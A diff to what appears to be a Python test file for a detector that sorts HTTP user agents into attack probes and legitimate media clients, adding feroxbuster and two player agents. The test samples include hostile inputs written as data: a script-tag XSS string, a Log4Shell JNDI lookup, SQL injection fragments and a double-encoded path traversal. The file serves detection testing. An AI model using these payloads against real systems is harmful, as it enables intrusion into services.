@@ -57,6 +57,7 @@ def _shipped() -> Detector:
         CHROME + "<script>alert(1)</script>",
         "${jndi:ldap://example.org/a}",
         "sqlmap/1.7.2#stable (https://sqlmap.org)",
+        "feroxbuster/2.10.4",
         "-1 OR 2+150-150-1=0+0+0+1 --",
         "x') OR NOT 42=42 AND ('a'='a",
         "..%252f..%252fboot.ini",
@@ -95,6 +96,8 @@ def test_probe_is_a_category_users_can_name() -> None:
         "AppleCoreMedia/1.0.0.20G165 (iPhone; U; CPU OS 16_6 like Mac OS X; en_us)",
         "iTunes-AppleTV/4.1",
         "stagefright/1.2 (Linux;Android 9)",
+        "GStreamer souphttpsrc 1.22.0 libsoup/3.4.4",  # Linux desktops' players (Totem, Rhythmbox)
+        "libmpv",
         "Podcasts/1700.1 CFNetwork/1408.0.4 Darwin/22.5.0",
         "TuneIn Radio/30.1 (Android 13; SM-G991B; Java)",
         "Sonos/79.1-52220 (ZPS23)",
